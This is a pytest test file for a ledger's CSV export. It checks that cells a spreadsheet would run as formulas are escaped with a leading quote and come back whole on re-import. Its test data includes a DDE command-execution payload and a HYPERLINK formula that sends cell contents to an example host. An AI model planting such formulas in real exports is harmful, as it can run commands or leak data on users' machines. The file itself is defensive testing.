"""Cells of an export: no spreadsheet runs one, and what was said comes back as it was."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from equipoise.case.load import load_case
from equipoise.ledger.ledger import Ledger
from equipoise.ledger.transfer.bring_in import bring_in
from equipoise.ledger.transfer.export import export_csv
from equipoise.ledger.transfer.guarded_cell import guarded, unguarded
from equipoise.ledger.transfer.read_file import read_file
from ledger.made import LadderClock, judgement

FORMULAS = ['=HYPERLINK("http://example.org?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx", "＝1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_stays_text(text):
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "because", "0.1", "'tis so", "a=b", "2021-04-01", "sha256:0f"])
def test_other_text_is_left_alone(text):
    assert guarded(text) == text


@given(st.text(alphabet="'=+-@\t\r\n＝ab ", max_size=8))
@example("'=1")
@example("''=1")
def test_reading_takes_off_exactly_what_writing_put_on(text):
    assert unguarded(guarded(text)) == text
    assert guarded(text)[:1] not in tuple("=+-@\t\r\n＝")


def test_a_reason_that_is_a_formula_is_guarded_in_the_table_and_whole_after_bringing_it_back(case_folder, tmp_path):
    ledger = Ledger(case_folder, clock=LadderClock())
    reason = '=HYPERLINK("http://example.org?"&A1,"more")'
    ledger.record(judgement(0.1, by_whom="@maria", reason=reason))
    ledger.record(judgement(0.3, by_whom="li", reason="'=quoted"))
    text = export_csv(ledger.entries)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(row["by_whom"], row["reason"]) for row in rows] == [("'@maria", f"'{reason}"), ("li", "''=quoted")]
    assert rows[0]["probability"] == "0.1"
    path = tmp_path / "record.csv"
    path.write_text(text, encoding="utf-8", newline="")
    read = read_file(path, find=lambda id, title: None, scenarios={})
    assert [(one.by_whom, one.reason) for one in read.incoming] == [("@maria", reason), ("li", "'=quoted")]
    # So that nothing is brought in twice.
    assert bring_in(read, ledger, load_case(case_folder).definition).already == 2
